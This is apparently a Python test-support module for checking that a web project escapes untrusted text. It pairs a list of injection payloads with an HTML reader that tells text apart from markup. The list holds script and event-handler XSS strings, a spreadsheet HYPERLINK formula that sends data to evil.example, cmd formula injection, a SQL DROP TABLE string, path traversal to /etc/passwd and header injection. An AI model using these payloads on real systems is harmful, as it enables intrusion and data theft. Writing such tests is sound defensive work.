"""Texts that try to be more than text, and a reader of pages that tells text from markup."""

import json
from collections.abc import Iterable
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any

TEXTS = {
    "script": "<script>window.ran=1</script>",
    "end of a script": "</script><script>window.ran=1</script>",
    "end of a text area": "</textarea><script>window.ran=1</script>",
    "end of a title": "</title><script>window.ran=1</script>",
    "end of a style": "</style><img src=x onerror=window.ran=1>",
    "image": "<img src=x onerror=window.ran=1>",
    "vector": "<svg/onload=window.ran=1><animate onbegin=window.ran=1 attributeName=x>",
    "formula markup": "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
    "frame": "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "template element": "<template shadowrootmode=open><style>*{display:none}</style></template>",
    "base": "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example/>",
    "double quote": '" autofocus onfocus="window.ran=1',
    "single quote": "' autofocus onfocus='window.ran=1",
    "no quote": "x onmouseover=window.ran=1 style=animation-name:x onanimationstart=window.ran=1",
    "comment": "<!-- --!> <!--",
    "character data": "]]><![CDATA[<b>",
    "entities": "&lt;script&gt; &amp;lt; &#60;b&#62; &nbsp;&unknown;",
    "script's address": "javascript:window.ran=1//",
    "data's address": "data:text/html,<script>parent.ran=1</script>",
    "braces": "{{7*7}} {{ self.__init__.__globals__ }}",
    "tag of a template": "{% raw %}{% raise %}{% endraw %}",
    "comment of a template": "{# x #} {#",
    "template literal": "`${window.ran=1}` ${7*7}",
    "end of a string": "';window.ran=1;' \";window.ran=1;\"",
    "escapes": "\\u003cb\\u003e \\x3cb\\x3e \\",
    "percent": "%s %(x)s %n {0} {x.__class__} %3Cb%3E",
    "equals": "=cmd|' /C calc'!A0",
    "link of a table": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tabulator": "\t=1+1",
    "carriage return": "\r=1+1",
    "semicolons and commas": '1;=1+1,"=1+1"',
    "turned round": "Anna\u202egpj.exe\u202c",
    "isolated": "\u2067gpj.exe\u2069",
    "right to left": "שלום عليكم",
    "no width": "a\u200bb\u200d\ufeffc\u2060d",
    "NUL": "Anna\x00</p>",
    "lone surrogate": "Anna\ud800",
    "control of a terminal": "\x1b]0;ran\x07\x1b[31mAnna\x1b[2J",
    "long": "Anna ran. " * 999 + "Anna ran!!",
    "one long word": "W" * 1_999,
    "lines": "one\ntwo\r\nthree\u2028four",
    "beyond the plane": "👩‍👩‍👧‍👦 𝕬nna",
    "marks that combine": "Z" + "\u0301\u0327\u0363" * 20 + "algo",
    "folder above": "../../../etc/passwd",
    "folders of Windows": "..\\..\\x",
    "quotes of SQL": "x'); DROP TABLE audit_event; --",
    "wildcards": "%_%*?[a-z]",
    "header": "x\r\nSet-Cookie: cordon=evil\r\n\r\n<b>",
    "link of a line": "[x](javascript:window.ran=1) <javascript:window.ran=1>",
}  # fmt: skip
"""Each named after what it tries. `window.ran` is set by those that run."""


def packed(texts: Iterable[str], *, most: int) -> list[str]:
    """The texts that a line of so many characters can hold, as many on each as it holds."""
    made: list[str] = []
    for text in texts:
        if not text.isprintable() or len(text) > most:
            continue
        if made and len(made[-1]) + 1 + len(text) <= most:
            made[-1] += f" {text}"
        else:
            made.append(text)
    return made


def as_read(text: str) -> str:
    """A text as a reader of it sees it: white space is one space."""
    return " ".join(text.split())


@dataclass(slots=True)
class PageRead:
    """A page taken apart: words, elements with the names of their attributes, and the scripts that would run."""

    words: list[str] = field(default_factory=list)
    elements: set[tuple[str, frozenset[str]]] = field(default_factory=set)
    links: list[str] = field(default_factory=list)
    scripts: list[str] = field(default_factory=list)
    data: list[Any] = field(default_factory=list)
    comments: list[str] = field(default_factory=list)
    ids: list[str] = field(default_factory=list)
    fields: dict[str, str] = field(default_factory=dict)
    """The values of hidden fields."""

    @property
    def text(self) -> str:
        """All words: of the page, of its fields, and those that travel as data to its scripts."""
        return "\n".join([*self.words, *(word for one in self.data for word in texts_in(one))])

    def holds(self, text: str) -> bool:
        """Whether the text is there to the letter, but for white space and what a parser may not keep (CR)."""
        return as_read(text) in as_read(self.text)


def texts_in(value: Any) -> list[str]:
    """Every text of a JSON value."""
    match value:
        case str():
            return [value]
        case dict():
            return [text for one in value.values() for text in texts_in(one)]
        case list():
            return [text for one in value for text in texts_in(one)]
        case _:
            return []


_SHOWN = ("value", "title", "alt", "aria-label", "content", "placeholder")
_LINKS = ("href", "src", "action", "formaction", "srcdoc", "data")


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.page = PageRead()
        self._within = ""
        self._is_data = False
        self._held: list[str] = []
        self._whole: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.page.elements.add((tag, frozenset(name for name, _ in attrs)))
        given = dict(attrs)
        self._flush()
        self.page.words += [value or "" for name, value in attrs if name in _SHOWN]
        self.page.links += [value or "" for name, value in attrs if name in _LINKS]
        self.page.ids += [value or "" for name, value in attrs if name == "id"]
        if tag == "input" and given.get("type") == "hidden":
            self.page.fields[given.get("name") or ""] = given.get("value") or ""
        if tag in ("script", "style"):
            self._within, self._is_data = tag, given.get("type") == "application/json"

    def handle_endtag(self, tag: str) -> None:
        if tag == self._within == "script":
            text = "".join(self._held)
            if self._is_data:
                self.page.data.append(json.loads(text))
            elif text.strip():
                self.page.scripts.append(text)
        if tag == self._within:
            self._held, self._within = [], ""
        elif tag not in ("bdi", "span", "strong"):
            self._flush()

    def handle_data(self, data: str) -> None:
        (self._held if self._within else self._whole).append(data)

    def handle_comment(self, data: str) -> None:
        self.page.comments.append(data)

    def _flush(self) -> None:
        if self._whole:
            self.page.words.append("".join(self._whole))
            self._whole = []

    def close(self) -> None:
        super().close()
        self._flush()
        assert not self._within, f"a {self._within} that does not end"


def read_page(html: str) -> PageRead:
    """A page taken apart as a browser does, so far as this project's own markup goes."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.page
